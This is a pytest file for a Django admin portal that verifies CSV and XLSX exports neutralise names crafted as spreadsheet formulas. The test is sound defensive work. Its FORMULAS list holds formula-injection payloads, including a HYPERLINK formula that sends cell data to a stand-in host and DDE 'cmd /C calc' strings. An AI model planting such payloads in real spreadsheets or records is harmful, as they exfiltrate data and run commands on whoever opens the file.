"""A member or partner named like a formula comes out of the admin's exports as inert text, in
the workbook and in the CSV, and the file imports back unchanged (issue 14, formula injection:
one committee admin plants a formula that runs when a superuser opens an export)."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from django.contrib import admin

from branches.models import Member
from partnerships.models import PartnerOrganisation
from portal.admin.formats import FormulaSafeCSV, FormulaSafeXLSX
from tests import factories
from tests.branches.test_import_export import _export, _import

FORMULAS = [
    '=HYPERLINK("http://e.x/?"&J2,"查看")',
    '+HYPERLINK("http://e.x/","查看")',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1+1)*cmd|" /C calc"!A0',
    "\t=1+1",
    "\r=1+1",
]
MEMBERS = "branches/member"
PARTNERS = "partnerships/partnerorganisation"
#: What makes Excel, WPS or LibreOffice read a CSV cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _plant(cast, formulas: list[str]) -> list[str]:
    for index, text in enumerate(formulas):
        factories.MemberFactory(branch=cast.branch_a1, name=text, post=text, phone="")
        partner = factories.PartnerFactory(committee=cast.committee_a, name=text, notes=text)
        factories.ContactFactory(partner=partner, name=f"{text}{index}", phone="")
    return formulas


@pytest.fixture
def planted(cast):
    """Members and partners of committee A named like formulas (a contact and notes too)."""
    return _plant(cast, FORMULAS)


def _csv_rows(response) -> list[list[str]]:
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def _workbook(response):
    return openpyxl.load_workbook(io.BytesIO(response.content)).active


def _no_formula_in_the_file(response) -> None:
    """Neither a formula cell nor a formula in the workbook's XML."""
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    for row in _workbook(response).iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.value


@pytest.mark.parametrize(
    ("model_path", "column"), [(MEMBERS, "姓名"), (PARTNERS, "名称")], ids=["members", "partners"]
)
@pytest.mark.parametrize("exporter", ["admin_a", "superuser"])
def test_a_name_like_a_formula_is_inert_text_in_the_csv(
    cast, planted, model_path, column, exporter
):
    rows = _csv_rows(_export(cast.client_for(getattr(cast, exporter)), model_path, "csv"))
    header, body = rows[0], rows[1:]
    for row in body:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (header, row)
    names = {row[header.index(column)] for row in body}
    assert {f"'{text}" for text in planted} <= names


@pytest.mark.parametrize(
    ("model_path", "column"), [(MEMBERS, "姓名"), (PARTNERS, "名称")], ids=["members", "partners"]
)
@pytest.mark.parametrize("exporter", ["admin_a", "superuser"])
def test_a_name_like_a_formula_is_a_text_cell_reading_as_typed_in_the_workbook(
    cast, planted, model_path, column, exporter
):
    response = _export(cast.client_for(getattr(cast, exporter)), model_path, "xlsx")
    _no_formula_in_the_file(response)
    sheet = _workbook(response)
    header = [cell.value for cell in sheet[1]]
    names = {row[header.index(column)] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert set(planted) <= names


def test_partner_contacts_and_notes_like_formulas_are_inert_too(cast, planted):
    rows = _csv_rows(_export(cast.client_for(cast.superuser), PARTNERS, "csv"))
    header = rows[0]
    for row in rows[1:]:
        assert row[header.index("备注")].startswith("'")
        assert row[header.index("联系人")].startswith("'")


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_export_with_formula_like_names_imports_back_without_changes(cast, fmt):
    # Leading white space is trimmed by every form and import, so those names are left out.
    _plant(cast, [text for text in FORMULAS if text == text.strip()])
    client = cast.client_for(cast.admin_a)
    members_before = sorted(Member.objects.values_list("name", "post"))
    partners_before = sorted(PartnerOrganisation.objects.values_list("name", "notes"))
    for model_path in (MEMBERS, PARTNERS):
        exported = _export(client, model_path, fmt).content
        _import(client, model_path, f"roster.{fmt}", exported, fmt)
    assert sorted(Member.objects.values_list("name", "post")) == members_before
    assert sorted(PartnerOrganisation.objects.values_list("name", "notes")) == partners_before


def test_every_admin_export_writes_formula_safe_files():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if hasattr(model_admin, "get_export_formats")
    ]
    assert exporting, "no admin exports anything: the test would prove nothing"
    for model_admin in exporting:
        for file_format in model_admin.get_export_formats():
            assert issubclass(file_format, (FormulaSafeCSV, FormulaSafeXLSX)), (
                model_admin,
                file_format,
            )
